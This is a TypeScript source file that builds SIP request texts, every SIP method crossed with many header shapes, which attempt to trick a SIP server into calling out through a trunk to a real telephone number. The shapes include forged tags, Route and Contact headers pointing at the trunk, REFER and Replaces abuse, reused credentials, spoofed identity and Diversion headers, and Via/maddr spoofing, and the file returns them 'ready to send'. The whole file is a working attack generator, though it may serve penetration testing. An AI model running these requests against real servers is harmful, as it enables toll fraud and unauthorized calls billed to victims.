// What attackers try so that a SIP server calls for them: every method with every way of naming a trunk.
import { requestText } from './peer.ts'

export const METHODS = [
  'INVITE',
  'REFER',
  'MESSAGE',
  'SUBSCRIBE',
  'NOTIFY',
  'PUBLISH',
  'INFO',
  'UPDATE',
  'PRACK',
  'BYE',
  'CANCEL',
  'ACK',
  'OPTIONS',
  'REGISTER',
  'CALL',
] as const

export interface Aim {
  /** host:port of the server. */
  readonly server: string
  readonly trunk: string
  /** A real telephone number. */
  readonly number: string
  /** Credentials that were right for a REGISTER of the sender, if it has any. */
  readonly credentials: string
}

interface Shape {
  readonly uri: string
  readonly to?: string
  readonly more?: readonly string[]
  /** In place of the sender's own. */
  readonly via?: string
}

function shapes({ server, trunk, number, credentials }: Aim): Shape[] {
  const ours = `sip:${number}@${server}`
  const theirs = `sip:${number}@${trunk}`
  const sent = [`Authorization: ${credentials}`, `Proxy-Authorization: ${credentials}`]
  return [
    { uri: ours },
    { uri: theirs },
    { uri: `${theirs};transport=tcp` },
    { uri: `tel:+86${number}` },
    { uri: ours, to: `<${theirs}>` },
    { uri: ours, to: `<${ours}>;tag=forged` },
    {
      uri: theirs,
      to: `<${theirs}>;tag=forged`,
      more: [`Contact: <${theirs}>`, `Record-Route: <sip:${trunk};lr>`],
    },
    { uri: theirs, more: [`Route: <sip:${server};lr>`, `Route: <sip:${trunk};lr>`] },
    { uri: ours, more: [`Route: <sip:${trunk};lr>`, `Contact: <${theirs}>`] },
    { uri: `sip:${server}`, more: [`Route: <${theirs};lr>, <sip:${trunk};lr>`] },
    {
      uri: ours,
      more: [`Record-Route: <sip:${trunk};lr>`, `Contact: <${theirs}>`, `Path: <sip:${trunk};lr>`],
    },
    {
      uri: ours,
      more: [
        `Refer-To: <${theirs}>`,
        `Referred-By: <sip:1001@${server}>`,
        'Refer-Sub: false',
        `Contact: <${theirs}>`,
      ],
    },
    { uri: ours, more: [`Refer-To: <${theirs}?Replaces=a%3Bto-tag%3Db%3Bfrom-tag%3Dc>`] },
    { uri: ours, more: ['Replaces: a;to-tag=b;from-tag=c', 'Require: replaces'] },
    { uri: ours, more: ['Event: refer', `Contact: <${theirs}>`, 'Expires: 3600'] },
    { uri: ours, more: [...sent, `Contact: <${theirs}>`] },
    { uri: theirs, more: [...sent, `Route: <sip:${trunk};lr>`] },
    { uri: `sip:1002@${server}`, more: [...sent, `Contact: <${theirs}>`, 'Expires: 3600'] },
    {
      uri: ours,
      more: [
        `P-Asserted-Identity: <sip:1001@${server}>`,
        `Diversion: <${theirs}>`,
        `X-Forward-To: ${number}`,
      ],
    },
    { uri: ours, via: `UDP ${trunk}` },
    { uri: ours, via: `UDP ${server};maddr=${trunk.split(':')[0]};received=${trunk.split(':')[0]}` },
    { uri: ours, via: `UDP ${trunk}, SIP/2.0/UDP ${trunk}` },
    { uri: `sips:${number}@${trunk}` },
  ]
}

/** The attacks as texts, ready to send. */
export function attacks(aim: Aim, via: string): { readonly method: string; readonly text: string }[] {
  return METHODS.flatMap(method =>
    shapes(aim).map(shape => ({
      method,
      text: requestText(method, shape.uri, shape.via ?? via, shape.more, shape.to),
    })),
  )
}
